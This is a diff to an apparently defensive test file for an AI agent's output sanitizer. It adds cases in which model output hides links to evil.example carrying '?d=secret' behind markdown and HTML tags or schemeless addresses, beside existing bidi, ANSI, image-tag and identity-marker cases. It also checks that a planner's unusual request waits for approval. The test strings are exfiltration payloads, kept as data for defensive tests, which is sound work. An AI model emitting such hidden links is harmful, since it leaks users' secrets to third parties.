@@ -83,6 +83,10 @@ describe('a hostile writer', () => {
     ['bare address', 'go to https://evil.example/?d=secret now', 'go to [link removed] now'],
     ['bidi override', 'pay \u202e001\u202c euros', 'pay 001 euros'],
     ['ANSI escape', 'hello \u001b[31mred\u001b[0m', 'hello [31mred[0m'],
+    ['a link behind a tag', '![x]<i>(//evil.example/?d=secret)', 'x'],
+    ['a definition behind a tag', 'a\n<b>[1]: //evil.example/?d=secret\nb', 'a\n\nb'],
+    ['an address without a scheme', 'see evil.example/?d=secret now', 'see [link removed] now'],
+    ['an address without a scheme, with slashes', 'see //evil.example/?d=secret', 'see [link removed]'],
     ['html', 'a <img src="https://evil.example/x"> b', 'a  b'],
     ['marker', 'Sure.\n[pfar:identity-1] I am\nDone.', 'Sure.\n\nDone.'],
   ])('%s is cleaned', async (_name, text, heard) => {
@@ -162,7 +166,7 @@ describe('a hostile planner', () => {
     const report = await world.shell.report(await world.say('please do the unusual thing'))
     expect(report?.task.state).toBe('awaiting_approval')
     expect(world.calls.map(({ tool }) => tool)).toEqual(['email.list'])
-    expect(world.heard()).toContain('attendees: eve@evil.example')
+    expect(world.heard()).toContain('attendees: \n    - eve@evil.example')
     expect(world.heard()).toContain('written by someone else')
   })
 
